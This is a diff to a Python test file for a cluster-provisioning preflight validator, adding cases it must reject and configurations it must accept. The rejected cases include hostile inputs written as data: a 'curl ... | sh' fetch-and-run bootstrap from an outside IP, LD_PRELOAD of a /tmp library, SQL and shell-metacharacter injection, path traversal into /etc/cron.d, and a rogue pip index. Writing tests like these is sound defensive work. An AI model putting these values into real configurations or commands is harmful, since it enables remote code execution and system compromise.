@@ -34,6 +34,8 @@ CASES = [
     ("nccl-graph-file", '{"nccl_settings": {"NCCL_GRAPH_FILE": "/tmp/graph.xml"}}', "nccl_settings: NCCL_GRAPH_FILE"),
     ("nccl-unknown-key", '{"nccl_settings": {"NCCL_MAGIC": "1"}}', "nccl_settings: unknown key NCCL_MAGIC"),
     ("nccl-backup", '{"nccl_backup": "sometimes"}', "nccl_backup"),
+    # Extra vars outrank the vars ucx gives build_artifact: the bootstrap command would run as root.
+    ("build-bootstrap-extra-var", '{"build_artifact_bootstrap": "id"}', "build_artifact_bootstrap: set by the role that builds ucx"),
 ]
 
 
@@ -128,7 +130,8 @@ CORPUS = [
     ("dbd-extra-unknown", {"slurm_dbd_config_extra": {"PurgeJobsAfter": "12months"}}, "unknown key PurgeJobsAfter (did you mean PurgeJobAfter?)"),
     ("dbd-password-newline", {"slurm_dbd_db_password": "pw" + NL + "StorageHost=evil"}, "slurm_dbd_db_password contains a newline"),
     ("dbd-password-tab", {"slurm_dbd_db_password": "pw\t1"}, "slurm_dbd_db_password contains a tab"),
-    ("dbd-password-space", {"slurm_dbd_db_password": "pw 1"}, "slurm_dbd_db_password contains a space"),
+    ("dbd-password-space-and-quote", {"slurm_dbd_db_password": 'pw 1 "x"'},
+     "slurm_dbd_db_password contains a space and a double quote"),
     ("dbd-password-list", {"slurm_dbd_db_password": ["x"]}, "slurm_dbd_db_password must be a string, got a list"),
     ("dbd-password-dict", {"slurm_dbd_db_password": {"a": "b"}}, "slurm_dbd_db_password must be a string, got a mapping"),
     ("dbd-name-sql", {"slurm_dbd_db_name": "slurm'; DROP DATABASE mysql; --"}, "slurm_dbd_db_name contains"),
@@ -300,11 +303,33 @@ CORPUS = [
     ("nccl-tests-commit-newline", {"nccl_tests_git_commit": "a0b82b2260cf5152b9f8c061bbf7eaf0ba096432" + NL},
      "nccl_tests_git_commit contains a newline"),
     ("nccl-tests-package-option", {"nccl_tests_build_packages": ["--allow-unauthenticated"]}, "nccl_tests_build_packages[0]"),
+    # what the calling role sets for build_artifact: never from the inventory or extra vars (issue 25)
+    ("build-bootstrap-override", {"build_artifact_bootstrap": "curl -s http://198.51.100.7/x | sh"},
+     "build_artifact_bootstrap: set by the role that builds ucx from its own variables"),
+    ("build-flags-env-override", {"build_artifact_configure_flags": ["--prefix=/etc"], "build_artifact_env": {"LD_PRELOAD": "/tmp/x.so"}},
+     "build_artifact_configure_flags, build_artifact_env: set by the role that builds ucx"),
+    # a version word instead of a version, refused under the user's name before any filter reads it
+    ("ucx-version-latest", {"ucx_version": "latest"}, "ucx_version must"),
+    ("openmpi-version-latest", {"openmpi_version": "latest"}, "openmpi_version must"),
+    ("nccl-tests-version-latest", {"nccl_tests_version": "latest"}, "nccl_tests_version must"),
+    ("pytorch-version-latest", {"pytorch_version": "latest"}, "pytorch_version must"),
+    # acceptance (validate.yml's variables), refused in site.yml's preflight too
+    ("acceptance-mpi-env-preload", {"acceptance_mpi_environment": {"UCX_TLS": "rc", "LD_PRELOAD": "/tmp/x.so"}},
+     "acceptance_mpi_environment: key 'LD_PRELOAD' must match"),
+    ("acceptance-report-name-dotdot", {"acceptance_report_basename": "../../etc/cron.d/x"}, "acceptance_report_basename"),
+    ("acceptance-ranks-zero", {"acceptance_mpi_ranks_per_node": 0}, "acceptance_mpi_ranks_per_node"),
+    # older roles' gaps (issue 25, item 7)
+    ("hosts-groups-unknown", {"base_hosts_groups": ["all", "gpu_nodes"]}, "base_hosts_groups names gpu_nodes, which the inventory does not have"),
+    ("verify-ignore-unbalanced", {"slurm_verify_ignore_nodes": "gpu[01-"}, "slurm_verify_ignore_nodes must be a Slurm hostlist"),
+    ("verify-ignore-reversed", {"slurm_verify_ignore_nodes": "gpu[4-1]"}, "reversed range"),
     ("build-root-system", {"build_artifact_root": "/usr"}, "build_artifact_root is a system directory"),
     ("build-dir-dotdot", {"build_artifact_build_dir": "/var/tmp/../etc"}, "build_artifact_build_dir must not contain '..'"),
     ("pytorch-venv-root", {"pytorch_venv": "/"}, "pytorch_venv is a system directory"),
     ("pytorch-venv-trailing-space", {"pytorch_venv": "/opt/venv "}, "pytorch_venv contains a space"),
     ("pytorch-index-no-scheme", {"pytorch_index_url": "download.pytorch.org/whl"}, "pytorch_index_url must match"),
+    ("pytorch-extra-packages-option", {"pytorch_extra_packages": ["--index-url=http://198.51.100.7/simple", "numpy"]},
+     "pytorch_extra_packages[0] must be a pip requirement (name[extras]==version), not a pip option"),
+    ("pytorch-share-dir-metachar", {"pytorch_share_dir": "/opt/share;id"}, "pytorch_share_dir contains ';'"),
     ("pytorch-version-newline", {"pytorch_version": "2.13.0" + NL}, "pytorch_version contains a newline"),
     # an inventory name that cannot be an /etc/hosts name or a Slurm NodeName
     ("bad_name", {}, "inventory_hostname must be a DNS name"),
@@ -332,7 +357,12 @@ GOOD_HOSTS = {
         # Documented as the shared switch of the build sources; no role declared it (issue 25).
         "trainstack_build_source": "debian",
         "pytorch_cuda_index": "cpu",
+        "pytorch_extra_packages": ["accelerate[deepspeed]>=1.0,<2", "numpy~=1.26.4"],
+        "acceptance_mpi_environment": {"OMPI_MCA_btl_tcp_if_include": "eth0", "UCX_TLS": "rc,sm"},
+        "acceptance_report_basename": "acceptance-2026-12",
     },
+    # slurmdbd.conf.j2 double-quotes a password with spaces (issue 25: the generic check used to refuse it).
+    "good-dbd-password-with-spaces": {"slurm_dbd_db_password": "correct horse battery staple"},
     "good-escape-hatches": {
         "slurm_config_extra": {"TrainstackFutureOption": "yes"},
         "preflight_allow_unknown_keys": ["slurm_config_extra"],
